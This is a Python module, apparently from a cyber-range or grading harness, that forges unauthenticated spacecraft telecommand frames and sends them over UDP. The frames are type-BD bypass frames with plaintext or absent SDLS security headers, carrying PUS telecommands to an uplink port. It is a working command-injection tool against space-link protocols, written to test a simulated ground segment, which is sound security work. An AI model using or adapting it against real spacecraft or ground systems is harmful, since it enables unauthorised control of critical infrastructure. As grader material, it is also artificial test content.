"""Forge telecommand frames without authentication and transmit them, from a grader vantage.

Runs inside the vantage container (``python3 -m labctl.range.vantage.forge``), on the
instance's rf network, with plain UDP sockets. Every frame is a type-BD (bypass) TC frame,
so FARM-1 takes it whatever its sequence number; it carries one PUS telecommand, either

- behind a clear SDLS security header for each ``--spi SPI:ARSN`` (SPI, sequence number
  field of ``--sn-len`` octets, no MAC): what a plaintext security association accepts, or
- with no security header at all (``--clear``): what an uplink without SDLS accepts.

Frames are built with the struct codecs (the SDLS engine applying a plaintext SA), so the
octets are exactly what the flight software parses. Every argument is checked first; a bad
one, or a failed transmission, is one JSON line ``{"error": ...}`` and exit status 2.
Success is one JSON line ``{"sent": [...], "source_id": N}`` and exit status 0.
"""

from __future__ import annotations

import argparse
import json
import socket
import sys
import time
from dataclasses import dataclass
from typing import Any, Final, NoReturn

from labctl.errors import ProtocolError
from labctl.protocols.pus import PusTc
from labctl.protocols.sdls import Keyring, SdlsEngine, SecurityAssociation, ServiceType
from labctl.protocols.tc_frame import TC_MAX_FRAME_SIZE, Bypass, TcFrame, segment
from labctl.range import wiring

UPLINK_IN: Final = (wiring.RF_LINK, wiring.UPLINK_IN)
MAP_ID: Final = 0
PLAINTEXT_SN_LEN: Final = 4  # the plaintext default of docs/ground-segment.md
MAX_FRAMES: Final = 16


class UsageError(ValueError):
    """A bad argument: reported as one line, never a usage screen or a traceback."""


@dataclass(frozen=True)
class Attempt:
    """One forged frame: its security header (None: none at all) and its octets."""

    spi: int | None
    arsn: int | None
    frame: bytes

    def summary(self) -> dict[str, Any]:
        return {"spi": self.spi, "arsn": self.arsn, "octets": len(self.frame)}


def plaintext_sa(spi: int, arsn: int, sn_len: int) -> SecurityAssociation:
    """A plaintext SA whose next ApplySecurity writes sequence number ``arsn``."""
    if not 0 <= spi <= 0xFFFF:
        raise UsageError(f"SPI {spi} outside 0..65535")
    if not 1 <= sn_len <= 8:
        raise UsageError(f"--sn-len {sn_len} outside 1..8")
    if not 1 <= arsn < 1 << (8 * sn_len):
        raise UsageError(f"sequence number {arsn} outside 1..{(1 << (8 * sn_len)) - 1}")
    return SecurityAssociation(
        spi=spi,
        service=ServiceType.PLAINTEXT,
        iv_len=0,
        sn_len=sn_len,
        mac_len=0,
        sequence_number=arsn - 1,
    )


def forge_frame(
    scid: int, vcid: int, packet: bytes, spi: int | None, *, arsn: int = 1, sn_len: int = 4
) -> bytes:
    """A BD frame (segment header MAP 0) carrying ``packet``, behind a clear SDLS header
    with ``spi`` and sequence number ``arsn``, or with no security header (``spi`` None)."""
    if not 0 <= scid <= 0x3FF:
        raise UsageError(f"--scid {scid} outside 0..1023")
    if not 0 <= vcid <= 0x3F:
        raise UsageError(f"--vcid {vcid} outside 0..63")
    clear = TcFrame(scid, vcid, segment(MAP_ID, packet), 0, Bypass.TYPE_B)
    try:
        if spi is None:
            return clear.encode()
        engine = SdlsEngine.of([plaintext_sa(spi, arsn, sn_len)], Keyring())
        return engine.protect_tc(clear, spi).encode()
    except ProtocolError as exc:
        raise UsageError(f"cannot build the frame: {exc}") from None


def telecommand(
    service: int, subtype: int, app_data: bytes, *, source_id: int, apid: int, count: int
) -> bytes:
    """The PUS-C telecommand packet a forged frame carries."""
    for name, value, top in (
        ("--service", service, 0xFF),
        ("--subtype", subtype, 0xFF),
        ("--source-id", source_id, 0xFFFF),
        ("--apid", apid, 0x7FF),
    ):
        if not 0 <= value <= top:
            raise UsageError(f"{name} {value} outside 0..{top}")
    try:
        return PusTc(apid, service, subtype, app_data, count % 0x4000, source_id).encode()
    except ProtocolError as exc:
        raise UsageError(f"cannot build the telecommand: {exc}") from None


def attempts(args: argparse.Namespace) -> list[Attempt]:
    """Every frame the arguments ask for, built and checked before anything is sent."""
    wanted: list[tuple[int | None, int | None]] = list(args.spi)
    if args.clear:
        wanted.append((None, None))
    if not wanted:
        raise UsageError("nothing to forge: give --spi SPI:ARSN and/or --clear")
    if len(wanted) > MAX_FRAMES:
        raise UsageError(f"at most {MAX_FRAMES} frames, got {len(wanted)}")
    out = []
    for count, (spi, arsn) in enumerate(wanted):
        packet = telecommand(
            args.service,
            args.subtype,
            args.app_data,
            source_id=args.source_id,
            apid=args.apid,
            count=count,
        )
        arsn_ = 1 if arsn is None else arsn
        frame = forge_frame(args.scid, args.vcid, packet, spi, arsn=arsn_, sn_len=args.sn_len)
        if len(frame) > TC_MAX_FRAME_SIZE:
            raise UsageError(f"a {len(frame)}-octet frame exceeds {TC_MAX_FRAME_SIZE} octets")
        out.append(Attempt(spi, arsn, frame))
    return out


def transmit(frames: list[Attempt], target: tuple[str, int], gap: float) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        for attempt in frames:
            sock.sendto(attempt.frame, target)
            time.sleep(gap)


# -- argument parsing: every type checks its value and names the option ----------------------
def _spi_arsn(text: str) -> tuple[int, int]:
    spi, sep, arsn = text.partition(":")
    try:
        return int(spi, 0), int(arsn, 0) if sep else 1
    except ValueError:
        raise argparse.ArgumentTypeError(f"{text!r} is not SPI[:ARSN] (integers)") from None


def _hex(text: str) -> bytes:
    try:
        return bytes.fromhex(text)
    except ValueError:
        raise argparse.ArgumentTypeError(f"{text!r} is not hex octets") from None


def _integer(text: str) -> int:
    try:
        return int(text, 0)
    except ValueError:
        raise argparse.ArgumentTypeError(f"{text!r} is not an integer") from None


def _gap(text: str) -> float:
    try:
        value = float(text)
    except ValueError:
        raise argparse.ArgumentTypeError(f"{text!r} is not a number of seconds") from None
    if not 0 <= value <= 5:
        raise argparse.ArgumentTypeError(f"{value} outside 0..5 s")
    return value


def _port(text: str) -> int:
    value = _integer(text)
    if not 1 <= value <= 65535:
        raise argparse.ArgumentTypeError(f"{value} outside 1..65535")
    return value


class _Parser(argparse.ArgumentParser):
    def error(self, message: str) -> NoReturn:
        raise UsageError(message)


def _parser() -> argparse.ArgumentParser:
    parser = _Parser(prog="vantage_forge", description=__doc__, add_help=False)
    parser.add_argument("--scid", type=_integer, required=True)
    parser.add_argument("--vcid", type=_integer, default=0)
    parser.add_argument("--service", type=_integer, default=17)
    parser.add_argument("--subtype", type=_integer, default=1)
    parser.add_argument("--app-data", type=_hex, default=b"", help="application data, hex")
    parser.add_argument("--apid", type=_integer, default=0x064)
    parser.add_argument("--source-id", type=_integer, default=0)
    parser.add_argument(
        "--spi", type=_spi_arsn, action="append", default=[], help="SPI[:ARSN], repeatable"
    )
    parser.add_argument("--sn-len", type=_integer, default=PLAINTEXT_SN_LEN)
    parser.add_argument("--clear", action="store_true", help="also a frame with no SDLS at all")
    parser.add_argument("--host", default=UPLINK_IN[0])
    parser.add_argument("--port", type=_port, default=UPLINK_IN[1])
    parser.add_argument("--gap", type=_gap, default=0.3, help="seconds between frames")
    return parser


def main(argv: list[str] | None = None) -> int:
    try:
        args = _parser().parse_args(argv)
        frames = attempts(args)
        transmit(frames, (args.host, args.port), args.gap)
    except (ValueError, OSError) as exc:  # UsageError, or an odd host name
        print(json.dumps({"error": str(exc) or type(exc).__name__}))
        return 2
    sent = [attempt.summary() for attempt in frames]
    print(json.dumps({"sent": sent, "source_id": args.source_id}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
